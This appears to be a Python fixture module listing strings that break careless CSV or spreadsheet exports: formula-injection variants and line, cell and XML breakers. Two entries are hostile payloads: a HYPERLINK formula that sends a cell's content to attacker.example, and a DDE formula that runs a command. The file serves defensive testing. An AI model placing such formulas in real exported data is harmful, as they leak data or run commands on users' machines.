"""Keys that break lists which are written without care."""

#: What a spreadsheet would calculate.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    " \u200b =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1,1)",
    '=HYPERLINK("https://attacker.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
)
#: What breaks lines, cells or XML.
BREAKING = (
    "a\nb",
    "a\r\nb",
    "a\rb",
    "a,b",
    'say "no"',
    "a;b\tc",
    "bell\x07\x1b[31m\0",
    "_x0007_",
    "_x000d_ and _x005F_x0007_",
    "<a>&amp;</a>",
    "]]>",
    "\ufffe\uffff",
    "\x7f\x85\u2028\u202e",
    "  blanks  ",
    "%20+%2B",
    "季度 😀",
    "0012",
    "'",
)
ALL = FORMULAS + BREAKING
